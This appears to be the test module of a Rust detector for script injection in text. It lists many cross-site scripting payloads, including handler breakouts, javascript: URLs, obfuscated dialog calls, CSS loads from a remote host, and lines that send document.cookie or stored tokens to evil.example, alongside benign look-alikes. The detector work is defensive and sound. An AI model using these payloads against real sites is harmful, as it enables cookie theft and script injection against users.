            "\" autofocus onfocus=x \"",
            "<iframe src=https://evil.example>",
            "<a href=\"javascript:void(0)\">x</a>",
            "<a href=\"java\tscript:x\">x</a>",
            "<a href=\"JAVA\nSCRIPT:x\">x</a>",
            "vbscript:msgbox",
            "data:text/html,x",
            "alert(1)",
            "alert (1)",
            "alert/**/(1)",
            "alert?.(1)",
            "(alert)(1)",
            "top['al'+'ert'](1)",
            "alert`1`",
            "';location=name;//",
            "onerror=alert;throw 1",
            "document.body.innerHTML=location.hash",
            "x.href='//evil.example'",
            "\" src=\"//evil.example/x.js",
            "x' formaction='//evil.example",
            "{{constructor.constructor('alert(1)')()}}",
            // Markup is left to the model.
            "<a href=\"https://example.com/docs?x=1\">docs</a>",
            "<h1>INJECTX</h1>",
            "\">xss</a>",
            "<!-- note -->",
            "<?import namespace=\"x\">",
        ] {
            assert!(script_capable(v), "{v}");
        }
    }

    #[test]
    fn dialogs_called_as_tagged_templates() {
        for v in [
            "x=(confirm)`1`",
            "Thanks. (confirm)`1`",
            "alert`1`",
            "(prompt)``",
        ] {
            assert!(tags_a_dialog(v.as_bytes()), "{v}");
            assert!(runs_code_or_reads_secrets(v), "{v}");
        }
        for v in [
            "Price (alert)(daily)",
            "`alert`",
            "use `(alert)` here",
            "alerts`x`",
            "(alert x)`1`",
            "x)`1`",
        ] {
            assert!(!tags_a_dialog(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn a_full_stop_before_a_remark_is_no_call() {
        for v in [
            "Киллеры на кулере. (ОМОН на вертолёте).",
            "Great value. (Would buy again!)",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        for v in ["alert?.(1)", "Nice. (alert)(1)", "x.y (1)"] {
            assert!(script_capable(v), "{v}");
        }
    }

    #[test]
    fn loaders_and_handlers_given_a_builtin() {
        for v in [
            "import('//x.example/m.js')",
            "import ( \"HTTPS://x.example/p.mjs\")",
            "x=import(`data:text/javascript,alert(1)`)",
            "onerror=alert;throw 1",
            "{onerror=alert}throw 1",
            "throw onerror=eval,'=alert\\x281\\x29'",
            "window.onerror = confirm",
        ] {
            assert!(runs_code_or_reads_secrets(v), "{v}");
        }
        for v in [
            "import('./utils.js') fails in Safari",
            "How do I import('lodash') lazily?",
            "reimport('//x')",
            "onerror=alerts_channel",
            "onerror = alert the user (spec)",
            "onerror=alert(1)",
            "online=alert;",
            "onerror==alert",
        ] {
            assert!(!runs_code_or_reads_secrets(v), "{v}");
        }
    }

    #[test]
    fn styles_loaded_from_elsewhere() {
        for v in [
            "<style>@import '//evil.example/x.css';</style>",
            "<STYLE>@IMPORT URL(\"https://evil.example/x.css\")</STYLE>",
            "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
            "x<style>@font-face{font-family:f;src:url( 'http://evil.example/f' )}",
        ] {
            assert!(style_from_elsewhere(v), "{v}");
        }
        for v in [
            "<style>body{background:url(/img/bg.png)}</style>",
            "<style>@import 'theme.css';</style>",
            "<style>i{background:url(data:image/png;base64,iVBO)}</style>",
            "@import url(//fonts.example/css) in a stylesheet",
            "<styles>url(//x.example)",
            "<style",
        ] {
            assert!(!style_from_elsewhere(v), "{v}");
        }
    }

    #[test]
    fn globals_called_by_a_built_name() {
        for v in [
            "window[`al`+`ert`](1)",
            "top['con'+'firm'](document.domain)",
            "self [atob('YWxlcnQ=')] (1)",
            "this[/al/.source+/ert/.source](1)",
            "globalThis[String.fromCharCode(97,108,101,114,116)]`1`",
            "x=1;parent[['al','ert'].join('')](1)",
        ] {
            assert!(runs_code_or_reads_secrets(v), "{v}");
        }
        for v in [
            "frames[0](1)",
            "call this[method](args) in the loop",
            "window['x'] is undefined",
            "top[a+b] of the list",
            "mywindow[`a`+`b`](1)",
            "window[",
            &format!("window[{}](1)", "a+".repeat(200)),
        ] {
            assert!(!runs_code_or_reads_secrets(v), "{v}");
        }
    }

    #[test]
    fn handlers_outside_a_tag() {
        assert!(EVENT_HANDLERS.windows(2).all(|w| w[0] < w[1]));
        for w in ["onerror", "ONLOAD", "onPointerEnter", "onbegin"] {
            assert!(is_event_handler(w.as_bytes()), "{w}");
        }
        for w in ["online", "onion", "onboarding", "on", "onxxx", "one"] {
            assert!(!is_event_handler(w.as_bytes()), "{w}");
        }
        for v in ["onboarding=complete", "Campaign: online=yes; offline=no"] {
            assert!(!script_capable(v), "{v}");
        }
        for v in [
            "y\"autofocus href onfocus=\"((x)=>(confirm)(x))(`1`)",
            "y autofocus href onfocus=prompt(/1/)",
            "y href onerRor=((prompt))`1`id=",
            "x' onwheel='[1].map(alert)",
            "\"/onerror=\"window.onerror=alert;throw 1",
            "a\tonmouseenter = confirm`1`",
        ] {
            assert!(handler_breakout(v), "{v}");
        }
        for v in [
            // No call or sink in the handler's value.
            "\" onfocus=\"x\"",
            "The onload= attribute (deprecated?)",
            // Not a handler, or not after a separator.
            "x onion=sliced(thin)",
            "onfocus=alert(1)",
            "?onload=alert(1)",
            // An unquoted value ends at a space or `>`.
            "y onfocus=x (1)",
            "y onfocus=((x)=>(confirm)(x))",
        ] {
            assert!(!handler_breakout(v), "{v}");
        }
    }

    #[test]
    fn code_runners_and_secrets() {
        for v in [
            "eval(atob('YWxlcnQoMSk='))",
            "new Function(location.hash.slice(1))()",
            "setTimeout('alert(1)', 0)",
            "fetch('//evil.example/'+document.cookie)",
            "new Image().src='//evil.example/?c='+document.cookie",
            "x.send(localStorage.getItem('token'))",
            "location.href='//evil.example/'+sessionStorage.token",
        ] {
            assert!(runs_code_or_reads_secrets(v), "{v}");
        }
        for v in [
            "eval(name)",
            "<code>eval(is)</code> is slow",
            "eval()",
            "import(location.hash)",
            "evaluate(x + 1)",
            "How do I clear localStorage?",
            "my.document.cookies(1)",
            "retrieval(x, y)",
        ] {
            assert!(!runs_code_or_reads_secrets(v), "{v}");
        }
    }

    #[test]
    fn unknown_elements_without_attribute_values_are_inert() {
        for v in [
            "C++ #include <vector>",
            "<unknown>",
            "List<String>",
            "Vec<u8> </T>",
            "<x/>",
            // Bare attributes: placeholders, a handler without a value.
            "<vector x>",
            "Dear <first name>, thanks",
            "<insert name here>",
            "<x onfocus autofocus>",
            "Dear <FIRST_NAME>",
            "<order_id>",
            // Type parameters: the name runs to a space (`k,`), an
            // attribute's name through `<` (`comparable<t`).
            "Map<K, V>",
            "<T extends Comparable<T>>",
            "HashMap<String, Vec<u8>>",
            "<x=y>",
            // A colon that makes no prefixed name: an unknown element.
            "fn f<T: Clone>(x: T) -> T",
            "std::map<std::string, int>",
            // Quotes after the tag: an IRC log, a nick then a quotation.
            "<chesty> xemacs fixed my flatulence\r\n\t\t-- From the \"XEmacs\" department",
            "<jack_> it's fine",
            // Quotes that open a quotation or are apostrophes: no breakout
            // is followed by markup.
            "<nick> it's <unknown>",
            "she wrote: \"it's <fine>\"",
            "\"it is <fine>\"",
            "'Tis <fine> 'n dandy",
            "the \"best\" <product> ever",
            "x' <unknown>",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        // Known elements, attribute values, custom elements, unclosed tags,
        // and any tag after a quote (which may close an attribute).
        for v in [
            "<b>",
            "<B >",
            "</div>",
            "<vector x=1>",
            "<vector onfocus=alert(1) autofocus>",
            "<your name/onload=alert(1)>",
            "<x y z><img src=x>",
            "<my-widget>",
            "<vector",
            "<K, V=1>",
            "<x <img src=x>",
            "<svg:svg>",
            "</xsl:template>",
            "<x:y z>",
            "<svg>",
            "'';!--\"<crosssitescripting>=&{()}",
            "\"><unknown>",
            "x'/><unknown>",
            "x' > <unknown>",
            "\"a\"\n><unknown>",
            "she wrote: \"<fine>\"",
            "it's fine\"><unknown>",
        ] {
            assert!(script_capable(v), "{v}");
        }
        for list in [HTML_ELEMENTS, SVG_MATHML_ELEMENTS] {
            assert!(list.split(' ').all(|e| !e.is_empty()));
        }
        assert!(script_capable("<feImage>"));
    }

    #[test]
    fn tags_with_junk_names_take_no_attributes() {
        for v in [
            "zSpd<t$L%u3cvC&&",
            "5xA86H(P'<F4T'&Y",
            "/9<q+?-v&d8K5R)v",
            "<a$b>x",
            "<svg$>",
            "<jane@localhost>",
            "<jane@example.com",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        // A space or `/` after the name (attributes follow), a clean name,
        // or script after the `>`.
        for v in [
            "<x$ onerror=alert(1)>",
            "<x$/onload=alert(1)>",
            "<img$>x<img src=x onerror=alert(1)>",
            "<script>",
            "<x%>alert(1)",
        ] {
            assert!(script_capable(v), "{v}");
        }
    }

    #[test]
    fn citation_labels_are_no_calls() {
        for v in [
            "501(c)(3)",
            "We are a 501(c)(3) organization",
            "Rule 12(b)(6)",
            "Art. 6(1)(f) GDPR",
            "Section 3(a)(ii)",
            "Section 230(c)(1)",
            "26 U.S.C. § 501(c)(3)",
            // An unknown name's call throws before its result is called.
            "x(a)(1)",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        // Function names, a label not after a number, calls inside.
        for v in [
            "(alert)(1)",
            "1(eval)(name)",
            "1(open)('//evil.example')",
            "(a)(1)",
            "1(a)(alert(1))",
            "501(c)(3)(alert)(1)",
        ] {
            assert!(script_capable(v), "{v}");
        }
    }

    #[test]
    fn addresses_in_angle_brackets_are_inert() {
        for v in [
            "<jane@example.com>",
            "Jane <jane@example.com>",
            "\"Jane Doe\" <jane.doe+shop@mail.example.co.uk>",
            "To: Bob <bob@example.org>, 'Al' <al_1@example.org>",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        // Attributes, script around an address, a tag that is no address.
        for v in [
            "<jane@example.com onmouseover=alert(1)>",
            "<a@b.c><img src=x onerror=alert(1)>",
            "\"Jane\" <jane@example.com> onfocus=alert(1)",
            "<svg/onload=alert(1)//@x.y>",
        ] {
            assert!(script_capable(v), "{v}");
        }
    }

    #[test]
    fn markup_and_prose_that_cannot() {
        for v in [
            "Meeting moved: 3pm -> 4pm",
            "x=1; y=2; z=x+y",
            "Room 12 (second floor)",
            "a < b and c > d",
            "I <3 it",
            "https://example.com/?page=2&sort=asc",
            "Time: 10:30",
            "src=img.png",
            "metadata:x",
        ] {
            assert!(!script_capable(v), "{v}");
        }
    }

    #[test]
    fn scripted_elements() {
        for v in [
            "<img src=x onerror=alert(1)>",
            "<x onxxx=1",
            "<x/onxxx=1",
            "<x 1='1'onxxx=1",
            "<x 1=\">\" onxxx=1",
            "<svg><animate onbegin=x>",
            "<a href=\"https://x.example\" ONCLICK = \"go()\">",
            "<div\nonmouseover=x>",
            // script URLs in attributes
            "<a href=\"javascript:void(0)\">x</a>",
            "<iframe src=j\n\ta\n\t\tv\na\ts\nc\tr\ni\tp\nt:alert(1)>",
            "<a href=' JaVaScRiPt:x'>",
            "<form action=vbscript:msgbox(1)>",
        ] {
            assert!(scripted_element(v), "{v}");
        }
        for v in [
            "<a href=\"https://example.com/?onclick=1\">x</a>",
            "<p title=\"onload=x\">",
            "<b>on=1</b>",
            "onerror=alert(1)",
            "<a on=1>",
            "a < b onerror=x",
            "<x",
            "<x 'y",
            "<x =",
            // inside a quoted attribute value, `<` opens no element
            "<a title=\"<img onerror=x>\">",
            "<a href=\"https://example.com/javascript:x\">",
            "<a title=\"javascript: the good parts\">",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            "<a href=\"#javascript\">",
        ] {
            assert!(!scripted_element(v), "{v}");
        }
        // Unclosed quotes one after another: read once, not once per `<`.
        let hostile = "<a x='<b x=\"".repeat(20_000);
        assert!(!scripted_element(&hostile));
        assert!(scripted_element(&format!("{hostile}'\"><i onclick=x>")));
    }

    proptest::proptest! {
        // Any text at all, multi-byte characters included: no panic.
        #[test]
        fn any_text_is_judged(v in "\\PC{0,64}") {
            let _ = (
                script_capable(&v),
                script_element(&v),
                scripted_element(&v),
                string_breakout_call(&v),
            );
        }

        // Never a panic on any input, and a value settled as script is one
        // the capability gate lets through.
        #[test]
        fn rules_agree_on_any_input(v in "[<>a-zA-Z =\"'/`():\t\n!?.;+-]{0,40}") {
            let settled = script_element(&v) || scripted_element(&v) || string_breakout_call(&v);
            proptest::prop_assert!(!settled || script_capable(&v));
        }
    }

    #[test]
    fn string_breakouts_with_a_call() {
        for v in [
            "'-fetch('//evil.example/'+document.cookie)-'",
            "\\';import('//evil.example/x.js');//",
            "x');new Image().src='//evil.example/?'+document.cookie;//",
            "\"};location.assign('//evil.example');//",
            "'-prompt`1`-'",
            "\";navigator.sendBeacon('//e.x',document.cookie)//",
        ] {
            assert!(string_breakout_call(v), "{v}");
        }
        for v in [
            "O'Reilly-Media(TM)",
            "the '90s-style(retro) look",
            "'yes' - then (maybe)",
            "It's 5 o'clock",
            "{\"a\": \"b\", \"c\": 1}",
            "'a'-",
            "\"",
            "x' or sleep(5)--",
        ] {
            assert!(!string_breakout_call(v), "{v}");
        }
    }

    #[test]
    fn scriptable_data_urls() {
        for v in [
            "data:text/html;base64,PHNjcmlwdD4=",
            "data:text/html;charset=utf-7;base64,ij48l3rpdgxlpjxzy3jpchq+ywxlcnqomtmznyk8l3njcmlwdd4=",
            "DATA: Text/HTML,hello",
            "<a href=data:application/xhtml+xml,x>",
            "x data:text/javascript,alert(1)",
        ] {
            assert!(script_data_url(v), "{v}");
        }
        for v in [
            "data:image/png;base64,iVBORw0KGgo=",
            "data:image/svg+xml;base64,PHN2Zz4=",
            "data: none",
            "metadata:text/html",
            "Time: 10:30",
            "text/html",
            "data:",
            "data: text/html is served, as usual",
            "data:text/html",
        ] {
            assert!(!script_data_url(v), "{v}");
        }
    }

    #[test]
    fn script_elements() {
        for v in [
            "<script>",
            "<SCRIPT src=//x.example/a.js>",
            "\"><script/x>",
            "<script\n>",
            "x<script",
        ] {
            assert!(script_element(v), "{v}");
        }
        for v in [
            "</script>",
            "<scripts>",
            "script",
            "<scripting>",
            "a <b>script</b>",
        ] {
            assert!(!script_element(v), "{v}");
        }
    }
}
